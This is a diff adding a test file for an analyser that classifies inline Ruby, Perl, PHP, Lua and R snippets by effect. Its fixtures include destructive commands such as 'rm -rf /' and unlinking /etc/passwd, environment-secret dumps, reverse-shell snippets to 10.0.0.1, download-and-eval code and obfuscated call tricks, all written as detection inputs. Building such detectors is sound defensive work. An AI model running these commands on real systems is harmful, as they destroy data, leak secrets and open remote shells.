@@ -1,0 +1,108 @@
+import { expect, test } from 'vitest'
+import { formatEffect } from '../../effect.ts'
+import { analyseShell } from '../analyse-shell.ts'
+import type { Language } from '../command-spec.ts'
+import { fakeWorld } from '../fake-world.ts'
+import { codeDrafts } from './index.ts'
+
+const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`
+const programs: Partial<Readonly<Record<Language, string>>> = { ruby: 'ruby -e', perl: 'perl -e', php: 'php -r' }
+
+function linesOf(language: Language, code: string): readonly string[] {
+  return analyseShell(`${programs[language] ?? ''} ${quote(code)}`, { world: fakeWorld(), cwd: '/w' }).effects.map(formatEffect)
+}
+
+type Row = readonly [language: Language, code: string, expected: readonly string[]]
+
+test.each<Row>([
+  ['ruby', 'puts RUBY_VERSION; puts (1..10).sum', []],
+  ['ruby', 'puts File.read("a.txt").lines.map { |l| l.strip.upcase }.uniq.first(3).inspect', ['read a.txt']],
+  ['ruby', 'require "json"; d = JSON.parse(File.read("p.json")); puts "v#{d["version"]}"', ['read p.json']],
+  ['ruby', 'def fib(n) = n < 2 ? n : fib(n - 1) + fib(n - 2)\nputs fib(20)', []],
+  ['ruby', 'x = 10 / 2; puts x / 3', []],
+  ['ruby', '$stdin.each_line { |l| puts $1 if l =~ /(\\d+)ms/ }', []],
+  ['perl', 'print "$1\\n" if /in (\\d+)ms/', []],
+  ['perl', 's/foo\\/bar/baz/g; tr/a-z/A-Z/; print unless /^#/', []],
+  ['perl', 'my %c; while (<>) { $c{$1}++ if /(\\w+)/ } for (sort { $c{$b} <=> $c{$a} } keys %c) { print "$_ $c{$_}\\n" }', []],
+  ['perl', 'open(my $fh, "<", "a.txt") or die; print while <$fh>', ['read a.txt']],
+  ['perl', 'use POSIX; print strftime("%Y", localtime), $x / 2', []],
+  ['php', 'echo PHP_VERSION, PHP_EOL;', []],
+  ['php', 'echo json_encode(json_decode(file_get_contents("c.json"), true)["require"]);', ['read c.json']],
+  ['php', '$x = [1, 2]; foreach ($x as $k => $v) { echo "$k={$v}\\n"; }', []],
+])('%s settles: %s', (language, code, expected) => {
+  expect(linesOf(language, code)).toEqual(expected)
+})
+
+test.each<Row>([
+  ['ruby', 'system("rm -rf /")', ['delete /']],
+  ['ruby', 'exec "rm", "-rf", "/"', ['delete /']],
+  ['ruby', 'puts "#{`rm -rf /etc`}"', ['delete /etc']],
+  ['ruby', '%x(rm -rf /etc)', ['delete /etc']],
+  ['ruby', 'open("|rm x")', ['delete x']],
+  ['ruby', 'FileUtils.rm_rf("/etc")', ['delete /etc']],
+  ['ruby', 'puts ENV.to_h; puts ENV["HOME"]', ['infra:secret environment']],
+  ['perl', 'system("rm -rf /")', ['delete /']],
+  ['perl', '`rm x`; qx{rm y}', ['delete x', 'delete y']],
+  ['perl', 's/x/system("rm y")/e', ['delete y']],
+  ['perl', 'open(F, "rm x |")', ['delete x', 'unknown: perl `F` is not described']],
+  ['perl', 'unlink "a", "/etc/passwd"', ['delete a', 'delete /etc/passwd']],
+  ['php', 'shell_exec("rm -rf /");', ['delete /']],
+  ['php', 'echo `rm x`;', ['delete x']],
+  ['php', 'unlink("/etc/passwd"); file_put_contents("o.txt", "x");', ['delete /etc/passwd', 'write o.txt']],
+])('%s, what it plainly does: %s', (language, code, expected) => {
+  expect(linesOf(language, code)).toEqual(expected)
+})
+
+test.each<readonly [language: Language, code: string]>([
+  ['ruby', 'eval "1"'],
+  ['ruby', 'Object.send(:system, "rm x")'],
+  ['ruby', '["a", "system(1)"].inject(:instance_eval)'],
+  ['ruby', 'require "mystery"'],
+  ['ruby', 'mystery(1)'],
+  ['ruby', 'system = 1; send = 2; send "x"'],
+  ['ruby', 'system(ARGV[0])'],
+  ['ruby', 'puts <<~X\n  #{`rm x`}\nX'],
+  ['perl', 'eval "1"'],
+  ['perl', 'print "@{[ `rm x` ]}"'],
+  ['perl', 'print "$h{system q(rm x)}"'],
+  ['perl', '$f = "system"; &$f("rm x")'],
+  ['perl', '"system"->("rm x")'],
+  ['perl', '@ARGV = ("rm x|"); print while <>'],
+  ['perl', 'do "x.pl"'],
+  ['perl', '/(?{ system "rm x" })/'],
+  ['perl', 's/x/y/ee'],
+  ['perl', 'use Mystery'],
+  ['perl', 'system(@ARGV)'],
+  ['php', 'eval("x");'],
+  ['php', '$f = "system"; $f("rm x");'],
+  ['php', '("sys"."tem")("rm x");'],
+  ['php', 'array_map("system", ["rm x"]);'],
+  ['php', 'echo "${system(\'rm x\')}";'],
+  ['php', 'include "x.php";'],
+  ['php', '$o->run();'],
+  ['lua', 'load("x")()'],
+  ['lua', 'mystery()'],
+  ['r', 'eval(parse(text = "x"))'],
+  ['r', 'mystery(1)'],
+])('%s stays unknown: %s', (language, code) => {
+  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'unknown' }))
+})
+
+test.each<readonly [language: Language, code: string, tag: string]>([
+  ['ruby', 'require "socket"; s = TCPSocket.new("10.0.0.1", 1); exec("sh -i")', 'remote-shell'],
+  ['perl', 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); exec("/bin/sh -i")', 'remote-shell'],
+  ['php', '$s = fsockopen("10.0.0.1", 1); exec("sh -i <&3");', 'remote-shell'],
+  ['php', 'eval(base64_decode("x"));', 'decoded'],
+  ['ruby', 'require "open-uri"; eval(URI.open("http://x.example").read)', 'download'],
+])('%s is hostile: %s', (language, code, tag) => {
+  expect(codeDrafts(language, code)).toContainEqual(expect.objectContaining({ kind: 'execute', tag }))
+})
+
+test.each<Row>([
+  ['lua', 'print(("x"):rep(3), #arg, math.floor(2.5))', []],
+  ['lua', 'os.execute("rm x"); local f = io.open("a.txt", "w")', ['shell', 'write']],
+  ['r', 'x <- c(1, 2, 3); print(mean(x)); summary(read.csv("a.csv"))', ['read']],
+  ['r', 'system("rm x")', ['shell']],
+])('%s: %s', (language, code, expected) => {
+  expect(codeDrafts(language, code).map((draft) => (draft.do === 'effect' ? draft.kind : draft.do))).toEqual(expected)
+})
